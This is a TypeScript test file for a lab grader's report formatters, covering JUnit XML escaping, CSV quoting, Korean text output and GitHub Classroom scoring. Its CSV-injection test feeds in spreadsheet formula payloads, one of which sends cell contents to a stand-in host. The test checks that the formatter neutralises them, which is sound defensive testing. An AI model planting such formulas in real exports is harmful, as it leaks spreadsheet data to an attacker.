// The reporters on a hand-made report: escaping, roster shapes, Classroom's partial credit.
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import type { GradeReport } from '../report.ts';
import { csvCell, formatCsv, formatRosterCsv } from './csv.ts';
import { classroomResult, githubOutputLine } from './github.ts';
import { formatJunit } from './junit.ts';
import { formatRosterText, formatText } from './text.ts';

const report = (account: string, passed: boolean): GradeReport => ({
  lab: 'ec2-launch',
  account,
  score: passed ? 3 : 1,
  maxScore: 3,
  passed,
  checks: [
    { id: 'key', title: 'Key pair <lab-key>', passed: true, points: 1, maxPoints: 1, message: 'Key "lab-key" & friends exist', hint: '', status: 'pass', step: 's1', evidence: ['key-1'] },
    { id: 'ssh', title: 'SSH, one address', passed, points: passed ? 2 : 0, maxPoints: 2, message: passed ? 'ok' : 'SSH open to 0.0.0.0/0, "world"\u0007', hint: passed ? '' : 'Allow only your own /32', status: passed ? 'pass' : 'fail', step: 's2', evidence: [] },
  ],
});

describe('junit', () => {
  it('is valid XML even with quotes, ampersands, angle brackets and control characters', () => {
    const xml = formatJunit([{ report: report('000000000001', false) }]);
    expect(XMLValidator.validate(xml)).toBe(true);
    const parsed = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@' }).parse(xml);
    const [pass, fail] = parsed.testsuites.testsuite.testcase;
    expect(pass['@name']).toBe('Key pair <lab-key>');
    expect(fail.failure['@message']).toBe('SSH open to 0.0.0.0/0, "world"');
    expect(fail.failure['#text']).toBe('SSH open to 0.0.0.0/0, "world"\nAllow only your own /32');
  });

  it('has a testsuite per student of a roster', () => {
    const xml = formatJunit([{ name: 'alice (000000000001)', report: report('000000000001', true) }, { name: 'bob (000000000002)', report: report('000000000002', false) }]);
    const parsed = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@' }).parse(xml);
    expect(parsed.testsuites['@tests']).toBe('4');
    expect(parsed.testsuites['@failures']).toBe('1');
    expect(parsed.testsuites.testsuite.map((s: { '@name': string }) => s['@name'])).toEqual(['alice (000000000001)', 'bob (000000000002)']);
  });
});

describe('csv', () => {
  it('quotes cells with commas, quotes and newlines', () => {
    const lines = formatCsv(report('000000000001', false)).trimEnd().split('\n');
    expect(lines[1]).toBe('ec2-launch,000000000001,s1,key,Key pair <lab-key>,pass,true,1,1,"Key ""lab-key"" & friends exist",');
    expect(formatRosterCsv([{ student: 'Kim, Minji', report: report('000000000001', true) }]).split('\n')[1]).toBe('"Kim, Minji",000000000001,ec2-launch,3,3,true,1,2');
  });
});

describe('csv injection', () => {
  it('neutralises text a spreadsheet would run as a formula, and keeps numbers', () => {
    for (const name of ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\r=1']) {
      const cell = formatRosterCsv([{ student: name, report: report('000000000001', true) }]).split('\n')[1]!.split(',')[0]!;
      expect(cell.replace(/^"/, '').startsWith("'"), name).toBe(true);
    }
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('Kim Minji')).toBe('Kim Minji');
  });
});

describe('text', () => {
  it('marks each check and ends with the score, in Korean too', () => {
    expect(formatText(report('000000000001', false), 'en')).toContain('✗ SSH, one address (0/2)\n    SSH open to 0.0.0.0/0, "world"\u0007\n    Hint: Allow only your own /32\n\nScore: 1/3\n');
    expect(formatText(report('000000000001', true), 'ko')).toMatch(/점수: 3\/3  모든 항목을 통과했습니다\.\n$/);
    expect(formatRosterText([{ student: 'alice', report: report('000000000001', false) }])).toBe('✗ alice  000000000001  Score 1/3  ✗ ssh\n');
  });
});

describe('github', () => {
  it('scores each check as a test so Classroom gives partial credit, and encodes UTF-8 in base64', () => {
    const result = classroomResult({ ...report('000000000001', false), checks: report('000000000001', false).checks.map((c) => ({ ...c, title: `${c.title} 한글` })) });
    expect(result).toMatchObject({ version: 1, status: 'fail', max_score: 3 });
    expect(result.tests.map((t) => [t.status, t.score])).toEqual([['pass', 1], ['fail', 0]]);
    const line = githubOutputLine(result);
    expect(JSON.parse(Buffer.from(line.slice('result='.length), 'base64').toString('utf8'))).toEqual(result);
  });
});
